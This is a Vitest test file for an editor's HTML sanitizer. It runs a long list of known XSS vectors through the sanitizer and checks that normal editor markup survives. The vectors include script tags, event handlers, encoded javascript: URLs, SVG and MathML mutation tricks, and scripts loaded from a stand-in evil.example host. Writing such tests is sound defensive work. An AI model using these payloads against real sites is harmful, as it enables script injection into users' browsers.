import { describe, expect, it } from "vitest";
import {
  EDITOR_ALLOWED_ATTRIBUTES,
  EDITOR_ALLOWED_TAGS,
  isAllowedEmbedSrc,
  isAllowedImageSrc,
  isAllowedLinkHref,
} from "#common/editor/allowed-html.ts";
import { lazyLoadMedia, sanitizePostHtml } from "./sanitize-html.server.ts";

const SITE = "https://studio.example";
const clean = (html: string) => sanitizePostHtml(html, { siteUrl: SITE });

/**
 * Checks the output's markup, not its text: every tag is one the editor writes, every attribute
 * one that tag may carry, and every URL one the editor may write. Text is escaped by the
 * sanitizer, so every "<" left in the output opens a tag.
 */
function expectOnlyEditorMarkup(html: string) {
  const tags = [...html.matchAll(/<\/?([^\s/>]+)([^>]*)>/g)];
  // Nothing that looks like a tag is left unparsed by the pattern above.
  expect(html.replace(/<\/?([^\s/>]+)([^>]*)>/g, "")).not.toMatch(/</);
  for (const [, rawName = "", rest = ""] of tags) {
    const name = rawName.toLowerCase();
    expect(EDITOR_ALLOWED_TAGS as readonly string[]).toContain(name);
    const allowed = EDITOR_ALLOWED_ATTRIBUTES[name] ?? [];
    for (const [, attr = "", value = ""] of rest.matchAll(/\s([^\s=]+)(?:="([^"]*)")?/g)) {
      expect(allowed).toContain(attr);
      expect(attr).not.toMatch(/^on/i);
      const decoded = value
        .replace(/&quot;/g, '"')
        .replace(/&lt;/g, "<")
        .replace(/&gt;/g, ">")
        .replace(/&amp;/g, "&");
      if (attr === "href") expect(isAllowedLinkHref(decoded)).toBe(true);
      if (attr === "src" && name === "img") expect(isAllowedImageSrc(decoded)).toBe(true);
      if (attr === "src" && name === "iframe") expect(isAllowedEmbedSrc(decoded)).toBe(true);
    }
  }
  expect(html).not.toMatch(/javascript:|vbscript:|data:|livescript:/i);
}

/** Known XSS vectors (OWASP's filter evasion cheat sheet, browser-specific tricks, mXSS). */
const VECTORS: Record<string, string> = {
  "script tag": "<script>alert(1)</script>",
  "script with src": '<script src="https://evil.example/x.js"></script>',
  "upper-case script": "<SCRIPT>alert(1)</SCRIPT>",
  "script split by a nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "script in angle brackets": "<<script>script>alert(1)<</script>/script>",
  "unclosed script": "<p>before</p><script>alert(1)",
  "script with odd attribute": '<script a=">" src="https://evil.example/x.js"></script>',
  "img onerror": "<img src=x onerror=alert(1)>",
  "img onerror with valid src": '<img src="https://cdn.example/a.png" onerror="alert(1)">',
  "img onerror without quotes or spaces": "<img/src=x/onerror=alert(1)>",
  "img with javascript src": '<img src="javascript:alert(1)">',
  "img with vbscript src": '<img src="vbscript:msgbox(1)">',
  "img with data src": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "img with dynsrc and lowsrc": '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  "img with srcset": '<img src="/uploads/a.png" srcset="javascript:alert(1) 1x">',
  "img with protocol-relative src": '<img src="//evil.example/a.png">',
  "img with backslash src": '<img src="/\\evil.example/a.png">',
  "img with uploads escape": '<img src="/uploads//evil.example/a.png">',
  "p onclick": '<p onclick="alert(1)">x</p>',
  "strong onmouseover": '<strong onmouseover="alert(1)">x</strong>',
  "em onfocus autofocus": '<em tabindex="1" onfocus="alert(1)" autofocus>x</em>',
  "h1 onanimationstart": '<h1 onanimationstart="alert(1)" style="animation:x">x</h1>',
  "h2 onpointerenter": '<h2 onpointerenter="alert(1)">x</h2>',
  "h3 oncopy": '<h3 oncopy="alert(1)">x</h3>',
  "ul ontouchstart": '<ul ontouchstart="alert(1)"><li onclick="alert(1)">x</li></ul>',
  "ol onwheel": '<ol onwheel="alert(1)"><li>x</li></ol>',
  "blockquote onmouseenter": '<blockquote onmouseenter="alert(1)">x</blockquote>',
  "code onbeforeinput": '<code onbeforeinput="alert(1)" contenteditable>x</code>',
  "br onload": '<br onload="alert(1)">',
  "a onclick": '<a href="https://ok.example" onclick="alert(1)">x</a>',
  "div onmouseover": '<div data-youtube-video="" onmouseover="alert(1)">x</div>',
  "iframe onload":
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>',
  "event handler with odd separators": '<p/onclick="alert(1)">x</p>',
  "event handler in upper case": '<p ONCLICK="alert(1)">x</p>',
  "event handler after a quoted slash": '<p title="a"/onclick="alert(1)">x</p>',
  "body onload": '<body onload="alert(1)">x</body>',
  "javascript href": '<a href="javascript:alert(1)">x</a>',
  "javascript href in upper case": '<a href="JAVASCRIPT:alert(1)">x</a>',
  "javascript href with leading space": '<a href=" javascript:alert(1)">x</a>',
  "javascript href with tab": '<a href="jav\tascript:alert(1)">x</a>',
  "javascript href with newline": '<a href="jav\nascript:alert(1)">x</a>',
  "javascript href with encoded tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "javascript href with encoded newline": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  "javascript href with control character": '<a href="&#14;javascript:alert(1)">x</a>',
  "javascript href with null byte": '<a href="java\0script:alert(1)">x</a>',
  "javascript href as decimal entities":
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  "javascript href as padded decimal entities":
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  "javascript href as hex entities":
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  "javascript href with named colon": '<a href="javascript&colon;alert(1)">x</a>',
  "javascript href without semicolons": '<a href="&#106avascript:alert(1)">x</a>',
  "javascript href unquoted": "<a href=javascript:alert(1)>x</a>",
  "javascript href in backticks": "<a href=`javascript:alert(1)`>x</a>",
  "vbscript href": '<a href="vbscript:msgbox(1)">x</a>',
  "livescript href": '<a href="livescript:alert(1)">x</a>',
  "data href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "data href in mixed case": '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
  "protocol-relative href": '<a href="//evil.example">x</a>',
  "protocol-relative href split by a tab": '<a href="/\t/evil.example">x</a>',
  "relative path href": '<a href="evil.example/javascript:alert(1)">x</a>',
  "file href": '<a href="file:///etc/passwd">x</a>',
  "svg onload": "<svg onload=alert(1)>",
  "svg with script": "<svg><script>alert(1)</script></svg>",
  "svg animate href":
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  "svg use with data": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  "svg foreignObject": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "math with link": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "math mglyph mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "style element": "<style>body{background:url(javascript:alert(1))}</style>",
  "style element with import": "<style>@import 'https://evil.example/x.css';</style>",
  "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
  "style attribute with expression": '<p style="width:expression(alert(1))">x</p>',
  "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
  "iframe from another host": '<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>',
  "iframe from a look-alike host":
    '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  "iframe with credentials trick":
    '<iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
  "iframe over http": '<iframe src="http://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  "iframe not an embed": '<iframe src="https://www.youtube.com/watch?v=dQw4w9WgXcQ"></iframe>',
  "iframe with javascript src": '<iframe src="javascript:alert(1)"></iframe>',
  "iframe with data src": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  "iframe with srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  "iframe with fallback markup":
    '<iframe src="https://evil.example"><img src=x onerror=alert(1)></iframe>',
  "unclosed iframe": '<iframe src="https://evil.example"><p onclick="alert(1)">x</p>',
  frameset: '<frameset><frame src="javascript:alert(1)"></frameset>',
  object: '<object data="javascript:alert(1)"></object>',
  "object with param": '<object><param name="src" value="javascript:alert(1)"></object>',
  embed: '<embed src="javascript:alert(1)">',
  "embed swf": '<embed src="https://evil.example/x.swf" type="application/x-shockwave-flash">',
  applet: '<applet code="Evil.class"></applet>',
  "form with javascript action": '<form action="javascript:alert(1)"><input type="submit"></form>',
  "button formaction": '<button formaction="javascript:alert(1)">x</button>',
  "input autofocus onfocus": "<input autofocus onfocus=alert(1)>",
  "textarea breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "select breakout": "<select><option><img src=x onerror=alert(1)></option></select>",
  "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "meta refresh to data":
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
  "meta csp override": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  "base href": '<base href="https://evil.example/">',
  "noscript breakout":
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  template: "<template><img src=x onerror=alert(1)></template>",
  xmp: "<xmp><img src=x onerror=alert(1)></xmp>",
  "comment breakout": "<!--<img src=x onerror=alert(1)>-->",
  "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  cdata: "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
  "unclosed tag": '<img src="x" onerror="alert(1)"',
  "unclosed attribute quote": '<p title="x onclick=alert(1)>y</p>',
  "attribute with a quote inside": "<p title='\" onclick=\"alert(1)'>x</p>",
  "video poster": '<video poster="javascript:alert(1)"><source src="x" onerror="alert(1)"></video>',
  "audio onerror": "<audio src=x onerror=alert(1)>",
  "details ontoggle": "<details open ontoggle=alert(1)>",
  "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
  isindex: '<isindex type="image" src="1" onerror="alert(1)">',
  "custom element": '<x-evil onclick="alert(1)">x</x-evil>',
  "a with ping and download": '<a href="/news" ping="https://evil.example" download>x</a>',
  "a with formaction and srcdoc":
    '<a href="/news" formaction="javascript:alert(1)" srcdoc="x">x</a>',
  "class and id": '<p class="fixed inset-0" id="main">x</p>',
};

describe("sanitizePostHtml: hostile markup", () => {
  for (const [name, vector] of Object.entries(VECTORS)) {
    it(`neutralises ${name}`, () => {
      const output = clean(vector);
      expectOnlyEditorMarkup(output);
      // What survives is inert: sanitizing again changes nothing.
      expect(clean(output)).toBe(output);
    });
  }

  it("removes scripts together with their code", () => {
    expect(clean("<p>a</p><script>alert(1)</script><p>b</p>")).toBe("<p>a</p><p>b</p>");
    expect(clean("<style>p{color:red}</style><p>b</p>")).toBe("<p>b</p>");
  });

  it("keeps the text of elements it removes, escaped", () => {
    expect(clean('<span onclick="x">Hello <u>there</u></span>')).toBe("Hello there");
    expect(clean("<scr<script>ipt>alert(1)</script>")).not.toContain("<");
  });

  it("removes links to unsafe schemes but keeps their text", () => {
    expect(clean('<a href="javascript:alert(1)">Click</a>')).toBe("Click");
    expect(clean('<a href="&#106;avascript:alert(1)">Click</a>')).toBe("Click");
    expect(clean('<a href=" JaVaScRiPt:alert(1)">Click</a>')).toBe("Click");
    expect(clean('<a href="data:text/html,x">Click</a>')).toBe("Click");
  });

  it("removes images and frames that are not allowed, with nothing left behind", () => {
    expect(clean("<p>a<img src=x onerror=alert(1)>b</p>")).toBe("<p>ab</p>");
    expect(clean('<iframe src="https://evil.example/x"><b>x</b></iframe>')).toBe("");
    expect(clean('<img src="data:image/png;base64,AAAA" alt="x">')).toBe("");
  });

  it("drops style, srcdoc, formaction and class attributes from allowed elements", () => {
    expect(clean('<p style="color:red" class="x" id="y">a</p>')).toBe("<p>a</p>");
    expect(
      clean(
        '<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
      ),
    ).toBe('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>');
  });

  it("closes what malformed markup leaves open", () => {
    expect(clean('<p>unclosed <strong>bold <a href="/news">link')).toBe(
      '<p>unclosed <strong>bold <a href="/news">link</a></strong></p>',
    );
  });

  it("accepts empty and missing input", () => {
    expect(clean("")).toBe("");
    expect(clean("plain text & more")).toBe("plain text &amp; more");
  });
});

describe("sanitizePostHtml: links", () => {
  it("opens links that leave the site in a new tab without access to this page", () => {
    expect(clean('<a href="https://other.example/page">x</a>')).toBe(
      '<a href="https://other.example/page" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(clean('<a href="http://other.example" target="_self" rel="opener">x</a>')).toBe(
      '<a href="http://other.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it("keeps the editor's own rel keywords and adds the missing ones", () => {
    expect(clean('<a href="https://other.example" rel="nofollow">x</a>')).toBe(
      '<a href="https://other.example" rel="nofollow noopener noreferrer" target="_blank">x</a>',
    );
  });

  it("gives links inside the site no target", () => {
    expect(clean('<a href="/blog/hello" target="_blank">x</a>')).toBe(
      '<a href="/blog/hello">x</a>',
    );
    expect(clean('<a href="#features">x</a>')).toBe('<a href="#features">x</a>');
    expect(clean(`<a href="${SITE}/news" target="_blank">x</a>`)).toBe(
      `<a href="${SITE}/news">x</a>`,
    );
  });

  it("treats a look-alike host as leaving the site", () => {
    expect(clean(`<a href="${SITE}.evil.example/">x</a>`)).toContain('target="_blank"');
    expect(clean('<a href="/\\evil.example/">x</a>')).toBe("x");
  });

  it("without a site origin, only relative links are inside the site", () => {
    expect(sanitizePostHtml(`<a href="${SITE}/news">x</a>`)).toBe(
      `<a href="${SITE}/news" target="_blank" rel="noopener noreferrer">x</a>`,
    );
    expect(sanitizePostHtml('<a href="/news">x</a>')).toBe('<a href="/news">x</a>');
  });

  it("keeps mailto links without a target", () => {
    expect(clean('<a href="mailto:team@studio.example" target="_blank">Mail us</a>')).toBe(
      '<a href="mailto:team@studio.example">Mail us</a>',
    );
  });
});

describe("sanitizePostHtml: what the editor writes survives unchanged", () => {
  // Each fixture is the editor's output as the browser serializes it (its getHTML()).
  const EDITOR_OUTPUT: Record<string, string> = {
    paragraph: "<p>Hello world</p>",
    "empty paragraph": "<p></p>",
    bold: "<p>A <strong>bold</strong> move</p>",
    "bold read from b": "<p><b>bold</b></p>",
    italic: "<p>An <em>italic</em> aside</p>",
    "italic read from i": "<p><i>italic</i></p>",
    "bold italic": "<p><strong><em>both</em></strong></p>",
    "heading 1": "<h1>Release notes</h1>",
    "heading 2": "<h2>What's new</h2>",
    "heading 3": "<h3>Fixes</h3>",
    "bullet list": "<ul><li><p>One</p></li><li><p>Two</p></li></ul>",
    "ordered list": "<ol><li><p>First</p></li><li><p>Second</p></li></ol>",
    "ordered list with start": '<ol start="3"><li><p>Third</p></li></ol>',
    "nested list": "<ul><li><p>Outer</p><ul><li><p>Inner</p></li></ul></li></ul>",
    blockquote: "<blockquote><p>Quoted words.</p></blockquote>",
    "inline code": "<p>Turn on <code>Experimental Gameplay</code></p>",
    "hard break": "<p>Line one<br>Line two</p>",
    "non-breaking space": "<p>5&nbsp;blocks</p>",
    "escaped text": "<p>5 &lt; 6 &amp; 7 &gt; 3 \"quoted\" 'single'</p>",
    "unicode text": "<p>Drachen 🐉 – “quotes” – 日本語</p>",
    "external link":
      '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://www.minecraft.net/en-us/marketplace">Marketplace</a></p>',
    "external link with query":
      '<p><a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">q</a></p>',
    "internal link": '<p><a href="/post/pocket-dragons">Pocket Dragons</a></p>',
    "mailto link": '<p><a href="mailto:team@studio.example">Mail</a></p>',
    "uploaded image": '<img src="/uploads/3f2a9c.png" alt="A dragon in flight">',
    "remote image with title":
      '<img src="https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg" alt="Thumbnail" title="Teaser">',
    "decorative image": '<img src="/uploads/divider.png" alt="">',
    "image with size": '<img src="/uploads/a.webp" alt="A" width="1200" height="630">',
    "youtube embed":
      '<div data-youtube-video=""><iframe width="640" height="480" allowfullscreen="true" autoplay="false" disablekbcontrols="false" enableiframeapi="false" endtime="0" ivloadpolicy="0" loop="false" modestbranding="false" origin="" playlist="" rel="1" src="https://www.youtube.com/embed/dQw4w9WgXcQ?rel=1" start="0"></iframe></div>',
    "youtube-nocookie embed":
      '<div data-youtube-video=""><iframe width="640" height="480" allowfullscreen="true" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30&amp;rel=0" start="30"></iframe></div>',
    "embed with title":
      '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Trailer" allow="autoplay; encrypted-media" allowfullscreen="" loading="lazy" referrerpolicy="strict-origin-when-cross-origin"></iframe>',
    "everything together": `<h1>Pocket Dragons</h1><p>Find an <strong>egg</strong>, keep it <em>warm</em>.<br>Then fly.</p><h2>What's inside</h2><ul><li><p>5 species</p></li><li><p>A <code>hatchery</code></p></li></ul><ol><li><p>Hatch</p></li><li><p>Raise</p></li></ol><blockquote><p>Tip: experiment.</p></blockquote><p>See <a href="/news">the news</a> or <a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com">elsewhere</a>.</p><img src="/uploads/dragon.png" alt="Dragon"><div data-youtube-video=""><iframe width="640" height="480" allowfullscreen="true" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe></div>`,
  };

  for (const [name, html] of Object.entries(EDITOR_OUTPUT)) {
    it(name, () => {
      expect(clean(html)).toBe(html);
    });
  }

  it("adds lazy loading to images and frames for display only", () => {
    const html =
      '<img src="/uploads/a.png" alt="A"><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe><img src="/uploads/b.png" alt="B" loading="eager">';
    expect(lazyLoadMedia(sanitizePostHtml(html))).toBe(
      '<img src="/uploads/a.png" alt="A" loading="lazy"><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" loading="lazy"></iframe><img src="/uploads/b.png" alt="B" loading="eager">',
    );
    expect(sanitizePostHtml(html)).toBe(html);
  });

  it("lazy loading reads whole attributes: text that looks like one inside a value is not one", () => {
    const html = sanitizePostHtml(
      '<p>1 &lt; 2 &gt; 0 <img src="/uploads/a.png" alt="loading=&quot;eager&quot; > x" title="<img loading=x>"></p>',
    );
    expect(html).toBe(
      '<p>1 &lt; 2 &gt; 0 <img src="/uploads/a.png" alt="loading=&quot;eager&quot; &gt; x" title="&lt;img loading=x&gt;"></p>',
    );
    expect(lazyLoadMedia(html)).toBe(
      '<p>1 &lt; 2 &gt; 0 <img src="/uploads/a.png" alt="loading=&quot;eager&quot; &gt; x" title="&lt;img loading=x&gt;" loading="lazy"></p>',
    );
    expect(lazyLoadMedia("<p>No media</p>")).toBe("<p>No media</p>");
  });

  it("keeps the demo content's links and lists", () => {
    const html =
      '<p>Read more on the <a href="/post/pocket-dragons">Pocket Dragons page</a>, and follow <a href="https://www.minecraft.net/en-us/marketplace/creator/override-studios">us</a>.</p>';
    expect(clean(html)).toBe(
      '<p>Read more on the <a href="/post/pocket-dragons">Pocket Dragons page</a>, and follow <a href="https://www.minecraft.net/en-us/marketplace/creator/override-studios" target="_blank" rel="noopener noreferrer">us</a>.</p>',
    );
  });
});
